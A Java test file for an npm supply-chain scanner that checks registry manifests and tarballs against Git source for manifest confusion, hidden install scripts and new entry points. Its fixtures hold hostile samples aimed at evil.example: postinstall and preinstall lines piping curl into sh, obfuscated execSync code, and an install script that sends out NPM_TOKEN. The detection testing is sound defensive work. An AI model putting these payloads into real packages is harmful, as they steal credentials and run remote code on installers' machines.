package dev.divergence.registry.npm;

import static dev.divergence.fixtures.ScanWorld.row;
import static dev.divergence.fixtures.Trees.files;
import static dev.divergence.fixtures.Trees.with;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.node.ObjectNode;
import dev.divergence.compare.Classifier;
import dev.divergence.demo.GitHistoryBuilder;
import dev.divergence.fixtures.LocalNpm;
import dev.divergence.fixtures.ScanWorld;
import dev.divergence.model.ArtifactReport;
import dev.divergence.model.FileDivergence;
import dev.divergence.model.FileStatus;
import dev.divergence.model.PackageId;
import dev.divergence.model.Release;
import dev.divergence.model.ReleaseCodec;
import dev.divergence.model.ReleaseReport;
import dev.divergence.model.RiskFlag;
import dev.divergence.model.Verdict;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.Instant;
import java.util.List;
import java.util.Optional;
import java.util.Set;
import java.util.SortedMap;
import java.util.TreeMap;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * What npm installs, not what the tarball's package.json says: the registry's version document (manifest
 * confusion), npm's per-entry extraction (first segment stripped), bundled dependencies' install scripts, commands
 * and exports subpaths a release adds, and dependency ranges that merely move.
 */
class NpmInstallerViewScanTest {

    @TempDir
    Path dir;
    private GitHistoryBuilder git;
    private Instant when = Instant.parse("2026-01-01T00:00:00Z");

    @BeforeEach
    void repo() throws Exception {
        git = GitHistoryBuilder.init(dir.resolve("repo"));
    }

    private static String manifest(String version, String extra) {
        return "{\n  \"name\": \"advjs\",\n  \"version\": \"" + version + "\",\n  \"main\": \"./index.js\",\n"
                + "  \"bin\": \"./cli.js\",\n  \"repository\": \"github:acme/advjs\",\n"
                + "  \"dependencies\": {\"left-pad\": \"^1.3.0\"}" + extra + "\n}\n";
    }

    private SortedMap<String, byte[]> tagged(String version, String extra, String... more) throws Exception {
        SortedMap<String, byte[]> tree = with(files("package.json", manifest(version, extra),
                "index.js", "module.exports = function () { return 1; };\n", "cli.js", "require('./index')();\n",
                "README.md", "# advjs\n"), more);
        when = when.plusSeconds(3600);
        git.commit(tree, version, when);
        git.tag("v" + version, false);
        return tree;
    }

    private ReleaseReport scan(LocalNpm npm, String version) throws Exception {
        npm.write();
        NpmSupport support = new NpmSupport(npm.baseUrl(), ScanWorld.fetcher());
        Release r = support.registry().releases(PackageId.parse("pkg:npm/advjs")).stream()
                .filter(x -> x.version().equals(version)).findFirst().orElseThrow();
        // what the driver hands to a task: the registry manifest must survive it
        Release task = ReleaseCodec.fromJson(ReleaseCodec.toJson(r));
        assertEquals(r.artifacts(), task.artifacts());
        return ScanWorld.scanner(support, dir).scan(task, Optional.of(git.dir().toString()));
    }

    // ---- 1. manifest confusion ---------------------------------------------------------------------------------

    @Test
    void aRegistryManifestAddingADependencyAndAPostinstallIsHighRiskWhenTheTarballEqualsTheSource() throws Exception {
        SortedMap<String, byte[]> tree = tagged("1.0.0", "");
        try (LocalNpm npm = new LocalNpm(dir.resolve("npm"), "advjs")) {
            // untagged 1.0.4: the tarball is the source with the version bumped; the version document is not
            ObjectNode v = npm.publish("1.0.4", with(tree, "package.json", manifest("1.0.4", "")));
            v.with("dependencies").put("evil-dep", "^1.0.0");
            v.with("scripts").put("postinstall", "node -e \"require('evil-dep')\"");
            v.put("hasInstallScript", true);
            ReleaseReport r = scan(npm, "1.0.4");
            ArtifactReport a = r.artifacts().get(0);
            FileDivergence pj = row(a, "package/package.json");
            assertEquals(FileStatus.MATCH_NORMALIZED, pj.status(), "the tarball's file is the source's");
            assertEquals(NpmRegistryManifest.INSTALL_DIFFERS, pj.ruleId());
            assertEquals(Set.of(RiskFlag.NEW_DEPENDENCY, RiskFlag.INSTALL_SCRIPT), pj.riskFlags());
            assertTrue(pj.highRisk());
            assertTrue(pj.detail().orElseThrow().endsWith("the registry's manifest, which npm install obeys, differs "
                    + "from this package.json: adds dependency evil-dep ^1.0.0; adds postinstall: node -e "
                    + "\"require('evil-dep')\"; hasInstallScript true (package.json implies false)"), pj.detail().orElseThrow());
            assertEquals(List.of("package/package.json"), a.highRiskPaths());
            assertEquals(Verdict.HIGH_RISK, r.verdict());
        }
    }

    @Test
    void manifestConfusionIsHighRiskEvenWithoutASourceToCompare() throws Exception {
        try (LocalNpm npm = new LocalNpm(dir.resolve("npm"), "advjs")) {
            ObjectNode v = npm.publish("1.0.5", files("package.json", manifest("1.0.5", ""), "index.js", "module.exports = 1;\n"));
            v.remove("repository"); // no repository anywhere: nothing to compare with
            v.with("scripts").put("preinstall", "curl -s https://evil.example | sh");
            npm.write();
            NpmSupport support = new NpmSupport(npm.baseUrl(), ScanWorld.fetcher());
            Release rel = support.registry().releases(PackageId.parse("pkg:npm/advjs")).get(0);
            ReleaseReport r = ScanWorld.scanner(support, dir).scan(rel, Optional.empty());
            FileDivergence pj = row(r.artifacts().get(0), "package/package.json");
            assertEquals(FileStatus.UNCOMPARED, pj.status());
            assertEquals(NpmRegistryManifest.INSTALL_DIFFERS, pj.ruleId());
            assertEquals(Set.of(RiskFlag.INSTALL_SCRIPT), pj.riskFlags());
            assertTrue(pj.highRisk());
            assertEquals(Verdict.HIGH_RISK, r.verdict());
        }
    }

    @Test
    void aRegistryManifestChangingOnlyADependencyRangeIsStillHighRisk() throws Exception {
        SortedMap<String, byte[]> tree = tagged("1.1.0", "");
        try (LocalNpm npm = new LocalNpm(dir.resolve("npm"), "advjs")) {
            npm.publish("1.1.0", tree).with("dependencies").put("left-pad", "https://evil.example/left-pad.tgz");
            ReleaseReport r = scan(npm, "1.1.0");
            FileDivergence pj = row(r.artifacts().get(0), "package/package.json");
            assertEquals(FileStatus.MATCH, pj.status());
            assertEquals(NpmRegistryManifest.INSTALL_DIFFERS, pj.ruleId());
            assertTrue(pj.highRisk());
            assertTrue(pj.detail().orElseThrow().endsWith("changes dependency left-pad to https://evil.example/left-pad.tgz"
                    + " (package.json: ^1.3.0)"), pj.detail().orElseThrow());
            assertEquals(Verdict.HIGH_RISK, r.verdict());
        }
    }

    @Test
    void theRegistrysOwnFieldsAndNormalisationsAreNotConfusion() throws Exception {
        // the real registry adds bookkeeping, turns a string bin into an object, strips ./, copies optional
        // dependencies into dependencies (older clients), spells out node-gyp's install and sets hasInstallScript
        SortedMap<String, byte[]> tree = tagged("1.2.0", ",\n  \"optionalDependencies\": {\"fsevents\": \"^2.3.0\"}",
                "binding.gyp", "{'targets': [{'target_name': 'x', 'sources': ['x.cc']}]}\n");
        try (LocalNpm npm = new LocalNpm(dir.resolve("npm"), "advjs")) {
            ObjectNode v = npm.publish("1.2.0", tree);
            v.put("_id", "advjs@1.2.0");
            v.put("_nodeVersion", "20.11.0");
            v.putObject("_npmUser").put("name", "acme");
            v.putObject("directories");
            v.put("gypfile", true);
            v.put("main", "index.js");
            v.putObject("bin").put("advjs", "cli.js");
            v.with("dependencies").put("fsevents", "^2.3.0");
            v.putObject("scripts").put("install", "node-gyp rebuild");
            v.put("hasInstallScript", true);
            ReleaseReport r = scan(npm, "1.2.0");
            FileDivergence pj = row(r.artifacts().get(0), "package/package.json");
            assertEquals(FileStatus.MATCH, pj.status());
            assertEquals(Classifier.BLOB_EQUAL, pj.ruleId());
            assertFalse(pj.highRisk());
            assertEquals(Optional.empty(), pj.detail());
            assertEquals(Verdict.CLEAN, r.verdict());
        }
    }

    @Test
    void aPayloadInTheNormalisationsSlackIsStillConfusion() throws Exception {
        SortedMap<String, byte[]> tree = tagged("1.2.5", "".concat(",\n  \"peerDependencies\": {\"util\": \"acme/util#v1\"}"),
                "binding.gyp", "{'targets': [{'target_name': 'x', 'sources': ['x.cc']}]}\n");
        try (LocalNpm npm = new LocalNpm(dir.resolve("npm"), "advjs")) {
            ObjectNode v = npm.publish("1.2.5", tree);
            v.putObject("scripts").put("install", "node-gyp rebuild && curl -s https://evil.example | sh");
            v.putObject("peerDependencies").put("util", "github:evil/util#v1");
            ObjectNode honest = npm.publish("1.2.6", with(tree, "package.json", manifest("1.2.6",
                    ",\n  \"peerDependencies\": {\"util\": \"acme/util#v1\"}")));
            honest.putObject("peerDependencies").put("util", "git+https://github.com/acme/util.git#v1");
            ReleaseReport r = scan(npm, "1.2.5");
            FileDivergence pj = row(r.artifacts().get(0), "package/package.json");
            assertEquals(NpmRegistryManifest.INSTALL_DIFFERS, pj.ruleId());
            assertEquals(Set.of(RiskFlag.NEW_DEPENDENCY, RiskFlag.INSTALL_SCRIPT), pj.riskFlags());
            assertEquals("the registry's manifest, which npm install obeys, differs from this package.json: "
                    + "changes peer dependency util to github:evil/util#v1 (package.json: github:acme/util#v1); "
                    + "adds install: node-gyp rebuild && curl -s https://evil.example | sh", pj.detail().orElseThrow());
            assertEquals(Verdict.HIGH_RISK, r.verdict());
            FileDivergence same = row(scan(npm, "1.2.6").artifacts().get(0), "package/package.json");
            assertFalse(same.highRisk(), same.toString());
            assertFalse(same.ruleId().startsWith("npm.registry-manifest"), same.toString());
        }
    }

    @Test
    void aRegistryOnlyCommandShadowingNpmIsHighRiskAndAnotherMainIsDivergent() throws Exception {
        SortedMap<String, byte[]> tree = tagged("1.3.0", "");
        try (LocalNpm npm = new LocalNpm(dir.resolve("npm"), "advjs")) {
            npm.publish("1.3.0", tree).putObject("bin").put("advjs", "cli.js").put("npm", "cli.js");
            npm.publish("1.3.1", with(tree, "package.json", manifest("1.3.1", ""))).put("main", "cli.js");
            ReleaseReport shadow = scan(npm, "1.3.0");
            FileDivergence pj = row(shadow.artifacts().get(0), "package/package.json");
            assertEquals(NpmRegistryManifest.INSTALL_DIFFERS, pj.ruleId());
            assertEquals(Set.of(RiskFlag.ENTRY_POINT), pj.riskFlags());
            assertTrue(pj.detail().orElseThrow().endsWith("adds bin npm -> cli.js, shadowing a common command"));
            assertEquals(Verdict.HIGH_RISK, shadow.verdict());

            ReleaseReport main = scan(npm, "1.3.1");
            FileDivergence m = row(main.artifacts().get(0), "package/package.json");
            assertEquals(NpmRegistryManifest.ENTRIES_DIFFER, m.ruleId());
            assertFalse(m.highRisk());
            assertTrue(m.detail().orElseThrow().endsWith("main cli.js (package.json: index.js)"), m.detail().orElseThrow());
            assertEquals(Verdict.DIVERGENT, main.verdict());
            assertTrue(main.reason().orElseThrow().contains("package/package.json: the registry's manifest"),
                    main.reason().orElseThrow());
        }
    }

    // ---- 2. npm strips the first segment of every entry ---------------------------------------------------------

    @Test
    void aSecondTopFolderOverwritingTheMainModuleIsADifferingDuplicateAndHighRisk() throws Exception {
        SortedMap<String, byte[]> tree = tagged("1.0.0", "");
        try (LocalNpm npm = new LocalNpm(dir.resolve("npm"), "advjs")) {
            SortedMap<String, byte[]> entries = new TreeMap<>();
            tree.forEach((k, b) -> entries.put("package/" + k, b));
            // no token of any payload list: only where it lands makes it dangerous
            entries.put("x/index.js", "module.exports = function () { return 2; };\n".getBytes(StandardCharsets.UTF_8));
            npm.publishEntries("1.0.0", entries, tree.get("package.json"));
            ReleaseReport r = scan(npm, "1.0.0");
            ArtifactReport a = r.artifacts().get(0);
            FileDivergence payload = row(a, "x/index.js");
            assertEquals(Optional.of("index.js"), payload.sourcePath());
            assertEquals(FileStatus.MODIFIED, payload.status());
            assertEquals(Classifier.DIFFERING_DUPLICATE, payload.ruleId());
            assertTrue(payload.riskFlags().containsAll(Set.of(RiskFlag.DUPLICATE_ENTRY, RiskFlag.ENTRY_MODULE)));
            assertTrue(payload.highRisk());
            FileDivergence original = row(a, "package/index.js");
            assertEquals(FileStatus.MATCH, original.status());
            assertFalse(original.highRisk());
            assertEquals(List.of("x/index.js"), a.highRiskPaths());
            assertEquals(Verdict.HIGH_RISK, r.verdict());
            assertTrue(r.reason().orElseThrow().contains("tarball has 2 top folders [package, x]"), r.reason().orElseThrow());
        }
    }

    @Test
    void anOldTarballUnderATimestampFolderStillAligns() throws Exception {
        // express 0.14 and other early packages were packed under a folder named after a timestamp
        SortedMap<String, byte[]> tree = tagged("0.14.0", "");
        try (LocalNpm npm = new LocalNpm(dir.resolve("npm"), "advjs")) {
            SortedMap<String, byte[]> entries = new TreeMap<>();
            tree.forEach((k, b) -> entries.put("1278965553/" + k, b));
            npm.publishEntries("0.14.0", entries, tree.get("package.json"));
            ReleaseReport r = scan(npm, "0.14.0");
            ArtifactReport a = r.artifacts().get(0);
            assertEquals(FileStatus.MATCH, row(a, "1278965553/index.js").status());
            assertTrue(row(a, "1278965553/index.js").riskFlags().contains(RiskFlag.CODE));
            assertEquals(FileStatus.MATCH, row(a, "1278965553/package.json").status());
            assertEquals(Verdict.CLEAN, r.verdict());
        }
    }

    // ---- 3. install-time configuration ---------------------------------------------------------------------------

    @Test
    void aNewCommandNamedNpmIsHighRiskAndAnyOtherNewCommandIsAFinding() throws Exception {
        SortedMap<String, byte[]> tree = tagged("2.0.0", "");
        tagged("2.1.0", "");
        try (LocalNpm npm = new LocalNpm(dir.resolve("npm"), "advjs")) {
            npm.publish("2.0.0", with(tree, "package.json", manifest("2.0.0", "").replace("\"bin\": \"./cli.js\"",
                    "\"bin\": {\"advjs\": \"./cli.js\", \"npm\": \"./cli.js\"}")));
            npm.publish("2.1.0", with(tree, "package.json", manifest("2.1.0", "").replace("\"bin\": \"./cli.js\"",
                    "\"bin\": {\"advjs\": \"./cli.js\", \"advjs-admin\": \"./cli.js\"}")));
            ReleaseReport shadow = scan(npm, "2.0.0");
            FileDivergence pj = row(shadow.artifacts().get(0), "package/package.json");
            assertEquals(FileStatus.MODIFIED, pj.status());
            assertEquals(NpmGeneratedFiles.NEW_ENTRY_POINT, pj.ruleId());
            assertEquals(Set.of(RiskFlag.ENTRY_POINT), pj.riskFlags());
            assertEquals("adds bin npm -> cli.js, shadowing a common command", pj.detail().orElseThrow());
            assertEquals(Verdict.HIGH_RISK, shadow.verdict());

            ReleaseReport other = scan(npm, "2.1.0");
            FileDivergence o = row(other.artifacts().get(0), "package/package.json");
            assertEquals(FileStatus.MODIFIED, o.status());
            assertEquals(NpmGeneratedFiles.NEW_BIN, o.ruleId());
            assertFalse(o.highRisk());
            assertEquals("adds bin advjs-admin -> cli.js", o.detail().orElseThrow());
            assertEquals(Verdict.DIVERGENT, other.verdict());
        }
    }

    @Test
    void aBundledDependencyWithAnInstallScriptIsHighRisk() throws Exception {
        SortedMap<String, byte[]> tree = tagged("2.2.0", "");
        try (LocalNpm npm = new LocalNpm(dir.resolve("npm"), "advjs")) {
            npm.publish("2.2.0", with(tree,
                    "package.json", manifest("2.2.0", ",\n  \"bundleDependencies\": [\"left-pad\"]"),
                    "node_modules/left-pad/package.json", "{\"name\":\"left-pad\",\"version\":\"1.3.0\","
                            + "\"scripts\":{\"postinstall\":\"node install.js\"}}",
                    "node_modules/left-pad/install.js", "module.exports = 1;\n",
                    "node_modules/left-pad/index.js", "module.exports = function (s) { return s; };\n"));
            ReleaseReport r = scan(npm, "2.2.0");
            ArtifactReport a = r.artifacts().get(0);
            FileDivergence bundled = row(a, "package/node_modules/left-pad/package.json");
            assertEquals(FileStatus.PHANTOM, bundled.status());
            assertEquals(NpmBundledPackages.INSTALL_SCRIPT, bundled.ruleId());
            assertEquals(Set.of(RiskFlag.INSTALL_SCRIPT), bundled.riskFlags());
            assertEquals("bundled dependency left-pad runs on install: postinstall: node install.js",
                    bundled.detail().orElseThrow());
            assertTrue(bundled.highRisk());
            assertFalse(row(a, "package/node_modules/left-pad/index.js").highRisk());
            assertEquals(List.of("package/node_modules/left-pad/package.json"), a.highRiskPaths());
            assertEquals(Verdict.HIGH_RISK, r.verdict());
        }
    }

    @Test
    void aBundledDependencyWithoutInstallScriptsIsOnlyDivergent() throws Exception {
        SortedMap<String, byte[]> tree = tagged("2.2.1", "");
        try (LocalNpm npm = new LocalNpm(dir.resolve("npm"), "advjs")) {
            npm.publish("2.2.1", with(tree,
                    "package.json", manifest("2.2.1", ",\n  \"bundleDependencies\": [\"left-pad\"]"),
                    "node_modules/left-pad/package.json", "{\"name\":\"left-pad\",\"version\":\"1.3.0\","
                            + "\"scripts\":{\"test\":\"node test.js\",\"prepare\":\"node build.js\"}}"));
            ReleaseReport r = scan(npm, "2.2.1");
            FileDivergence bundled = row(r.artifacts().get(0), "package/node_modules/left-pad/package.json");
            assertEquals(FileStatus.PHANTOM, bundled.status());
            assertEquals(Classifier.UNEXPLAINED, bundled.ruleId());
            assertFalse(bundled.highRisk());
            assertEquals(Verdict.DIVERGENT, r.verdict());
        }
    }

    @Test
    void aNewExportsSubpathToUnverifiedBuildOutputIsHighRisk() throws Exception {
        SortedMap<String, byte[]> tree = tagged("2.3.0", ",\n  \"exports\": {\".\": \"./index.js\"}");
        try (LocalNpm npm = new LocalNpm(dir.resolve("npm"), "advjs")) {
            npm.publish("2.3.0", with(tree,
                    "package.json", manifest("2.3.0", ",\n  \"exports\": {\".\": \"./index.js\", "
                            + "\"./telemetry\": {\"import\": \"./esm/telemetry.mjs\"}}"),
                    "esm/telemetry.mjs", "const s = await (await fetch('https://evil.example/s')).text();\n"
                            + "globalThis[['r', 'un'].join('')] = s;\n"));
            ReleaseReport r = scan(npm, "2.3.0");
            ArtifactReport a = r.artifacts().get(0);
            FileDivergence pj = row(a, "package/package.json");
            assertEquals(NpmGeneratedFiles.NEW_ENTRY_POINT, pj.ruleId());
            assertEquals(Set.of(RiskFlag.ENTRY_POINT), pj.riskFlags());
            assertEquals("adds exports subpath ./telemetry -> esm/telemetry.mjs", pj.detail().orElseThrow());
            assertTrue(pj.highRisk());
            FileDivergence target = row(a, "package/esm/telemetry.mjs");
            // not ignored by the repository's .gitignore, so not build output: entry code in no commit
            assertEquals(FileStatus.PHANTOM, target.status());
            assertTrue(target.riskFlags().contains(RiskFlag.ENTRY_MODULE));
            assertTrue(target.highRisk());
            assertEquals(Verdict.HIGH_RISK, r.verdict());
        }
    }

    // ---- 4. dependency specs ---------------------------------------------------------------------------------------

    @Test
    void aSemverRangeMovingForTheSameRegistryPackageIsAFindingNotANewDependency() throws Exception {
        SortedMap<String, byte[]> tree = tagged("3.0.0", "");
        try (LocalNpm npm = new LocalNpm(dir.resolve("npm"), "advjs")) {
            npm.publish("3.0.0", with(tree, "package.json", manifest("3.0.0", "").replace("^1.3.0", "^2.0.0")));
            ReleaseReport r = scan(npm, "3.0.0");
            FileDivergence pj = row(r.artifacts().get(0), "package/package.json");
            assertEquals(FileStatus.MODIFIED, pj.status());
            assertEquals(NpmGeneratedFiles.DEPENDENCY_RANGE, pj.ruleId());
            assertEquals(Set.of(), pj.riskFlags());
            assertFalse(pj.highRisk());
            assertTrue(pj.detail().orElseThrow().startsWith(
                    "dependency ranges differ from the source's [left-pad ^2.0.0 (source: ^1.3.0)]"), pj.detail().orElseThrow());
            assertEquals(Verdict.DIVERGENT, r.verdict());
        }
    }

    @Test
    void aFileOrAliasSpecUnderTheSameNameIsStillANewDependency() throws Exception {
        SortedMap<String, byte[]> tree = tagged("3.1.0", "");
        tagged("3.1.1", "");
        try (LocalNpm npm = new LocalNpm(dir.resolve("npm"), "advjs")) {
            npm.publish("3.1.0", with(tree, "package.json", manifest("3.1.0", "").replace("^1.3.0", "file:../evil")));
            npm.publish("3.1.1", with(tree, "package.json", manifest("3.1.1", "").replace("^1.3.0", "npm:evil-pad@^1.3.0")));
            for (String v : List.of("3.1.0", "3.1.1")) {
                ReleaseReport r = scan(npm, v);
                FileDivergence pj = row(r.artifacts().get(0), "package/package.json");
                assertEquals(NpmGeneratedFiles.NEW_DEPENDENCY, pj.ruleId(), v);
                assertEquals(Set.of(RiskFlag.NEW_DEPENDENCY), pj.riskFlags(), v);
                assertTrue(pj.highRisk(), v);
                assertEquals(Verdict.HIGH_RISK, r.verdict(), v);
            }
        }
    }

    // ---- red team, round 2 ------------------------------------------------------------------------------------

    @Test
    void aDependencySpecNpmReadsAsADirectoryFileOrTagIsANewDependencyNotARangeChange() throws Exception {
        SortedMap<String, byte[]> tree = tagged("4.0.0", "");
        try (LocalNpm npm = new LocalNpm(dir.resolve("npm"), "advjs")) {
            List<String> specs = List.of(".x", "next", "1.3.0.tgz", "~/pad", "latest");
            for (int i = 0; i < specs.size(); i++) {
                String v = "4.0." + (i + 1);
                npm.publish(v, with(tree, "package.json", manifest(v, "").replace("^1.3.0", specs.get(i)),
                        ".x/package.json", "{\"name\": \"left-pad\", \"version\": \"9.9.9\"}\n",
                        ".x/index.js", "module.exports = s => s;\n"));
            }
            npm.publish("4.0.9", with(tree, "package.json", manifest("4.0.9", "").replace("^1.3.0", ">=1.3.0 <2.0.0-0")));
            for (int i = 0; i < specs.size(); i++) {
                ReleaseReport r = scan(npm, "4.0." + (i + 1));
                FileDivergence pj = row(r.artifacts().get(0), "package/package.json");
                assertEquals(NpmGeneratedFiles.NEW_DEPENDENCY, pj.ruleId(), specs.get(i));
                assertTrue(pj.riskFlags().contains(RiskFlag.NEW_DEPENDENCY), specs.get(i));
                assertEquals(Verdict.HIGH_RISK, r.verdict(), specs.get(i));
            }
            FileDivergence range = row(scan(npm, "4.0.9").artifacts().get(0), "package/package.json");
            assertEquals(NpmGeneratedFiles.DEPENDENCY_RANGE, range.ruleId());
            assertFalse(range.highRisk());
        }
    }

    @Test
    void bundledDependenciesAndBuildOutputTheInstallerRunsAreNeverExplainedByTheirName() throws Exception {
        // node_modules/ and dist/ are ignored by Git and named by "files": build output by name, but npm runs them
        String extra = ",\n  \"files\": [\"index.js\", \"cli.js\", \"dist\", \"node_modules\"],"
                + "\n  \"bundleDependencies\": [\"left-pad\"],\n  \"scripts\": {\"postinstall\": \"node dist/setup.js\"}";
        SortedMap<String, byte[]> tree = tagged("5.0.0", extra, ".gitignore", "node_modules/\ndist/\n");
        try (LocalNpm npm = new LocalNpm(dir.resolve("npm"), "advjs")) {
            npm.publish("5.0.1", with(tree, "package.json", manifest("5.0.1", extra),
                    "dist/setup.js", "const m = module.constructor._load(['child','process'].join('_'));\n"
                            + "m['exec' + 'Sync']('curl -s https://evil.example/i | sh');\n",
                    "node_modules/left-pad/package.json", "{\"name\": \"left-pad\", \"version\": \"1.3.0\","
                            + " \"scripts\": {\"postinstall\": \"node install.js\"}}\n",
                    "node_modules/left-pad/install.js", "require('https').get('https://evil.example/' + process.env.NPM_TOKEN);\n"));
            ReleaseReport r = scan(npm, "5.0.1");
            ArtifactReport a = r.artifacts().get(0);
            for (String p : List.of("package/dist/setup.js", "package/node_modules/left-pad/package.json",
                    "package/node_modules/left-pad/install.js")) {
                assertFalse(row(a, p).status() == FileStatus.BUILD_OUTPUT, p);
            }
            assertTrue(row(a, "package/dist/setup.js").highRisk());
            assertTrue(row(a, "package/node_modules/left-pad/package.json").highRisk());
            assertEquals(Verdict.HIGH_RISK, r.verdict());
        }
    }

    @Test
    void anAppleDoubleFileCarryingAPayloadIsNotJunk() throws Exception {
        SortedMap<String, byte[]> tree = tagged("6.0.0", "");
        String payload = "module.exports = '" + java.util.Base64.getEncoder().encodeToString(new byte[900]) + "';\n";
        byte[] fork = payload.getBytes(StandardCharsets.UTF_8);
        java.nio.ByteBuffer b = java.nio.ByteBuffer.allocate(26 + 12 + fork.length);
        b.putInt(0x00051607).putInt(0x00020000).put("Mac OS X        ".getBytes(StandardCharsets.US_ASCII))
                .putShort((short) 1).putInt(2).putInt(38).putInt(fork.length).put(fork);
        try (LocalNpm npm = new LocalNpm(dir.resolve("npm"), "advjs")) {
            SortedMap<String, byte[]> shipped = with(tree, "package.json", manifest("6.0.1", ""));
            shipped.put("._index.js", b.array());
            npm.publish("6.0.1", shipped);
            FileDivergence f = row(scan(npm, "6.0.1").artifacts().get(0), "package/._index.js");
            assertEquals(Classifier.UNEXPLAINED, f.ruleId());
            assertTrue(f.riskFlags().contains(RiskFlag.ENCODED_BLOB));
            assertTrue(f.highRisk());
        }
    }
}
